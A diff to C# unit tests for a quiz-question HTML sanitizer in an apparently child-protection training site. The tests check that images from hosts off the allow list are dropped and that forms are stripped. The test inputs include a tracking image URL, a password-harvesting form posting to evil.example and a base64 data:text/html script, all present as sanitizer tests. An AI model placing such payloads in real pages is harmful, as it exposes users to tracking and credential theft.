@@ -1,11 +1,14 @@
+using ChildProtection.Cms.Text;
 using ChildProtection.Training.Quizzes.Questions;
 using ChildProtection.Web.Features.Training;
+using Microsoft.Extensions.Options;
 
 namespace ChildProtection.Web.Tests.Training;
 
 public sealed class QuestionTextRendererTests : IDisposable
 {
-    private readonly QuestionTextRenderer _renderer = new();
+    /// <summary>A site that lets pictures come from example.vn besides its media library.</summary>
+    private readonly QuestionTextRenderer _renderer = new(new PictureSources(Options.Create(new ContentOptions { AllowedImageHosts = ["example.vn"] })));
 
     public void Dispose() => _renderer.Dispose();
 
@@ -58,5 +61,31 @@ public sealed class QuestionTextRendererTests : IDisposable
         Assert.DoesNotContain("data:", Render(Picture, TextFormat.Html));
         Assert.Contains("src=\"data:image/png;base64,iVBORw0KGgo=\"", Render(Picture, TextFormat.Html, inlinePictures: true));
         Assert.DoesNotContain("data:", Render("""<img src="data:text/html;base64,PHNjcmlwdD4=">""", TextFormat.Html, inlinePictures: true));
+    }
+
+    [Fact]
+    public void Render_PictureFromAHostNotAllowed_ShownAsItsAltTextWithoutAnAddress()
+    {
+        using var renderer = new QuestionTextRenderer(new PictureSources(Options.Create(new ContentOptions())));
+        const string Question = """<p>Biển báo nào?</p><img src="https://tracker.example/contest.png?who=1" alt="Biển báo cấm"><img src="https://example.vn/a.png">""";
+
+        var html = renderer.Render(Question, TextFormat.Html).ToString()!;
+        var markdown = renderer.Render("Câu hỏi ![Sơ đồ](https://tracker.example/md.png) và ![ảnh](/media/abc/a.png)", TextFormat.Markdown).ToString()!;
+
+        Assert.Equal("<p>Biển báo nào?</p>Biển báo cấm", html);
+        Assert.Equal("""<p>Câu hỏi Sơ đồ và <img src="/media/abc/a.png" alt="ảnh" loading="lazy"></p>""", markdown.Trim());
+    }
+
+    [Fact]
+    public void Render_FormAndControls_DroppedKeepingOnlyWording()
+    {
+        var html = Render("""<form action="https://evil.example/thu"><p>Nhập mật khẩu</p><input name="p"><button formaction="https://evil.example/">Gửi</button><textarea>x</textarea><select><option>1</option></select></form>""", TextFormat.Html);
+
+        foreach (var gone in new[] { "<form", "action", "<input", "<button", "<textarea", "<select", "<option", "evil.example" })
+        {
+            Assert.DoesNotContain(gone, html, StringComparison.OrdinalIgnoreCase);
+        }
+
+        Assert.Contains("<p>Nhập mật khẩu</p>", html);
     }
 }
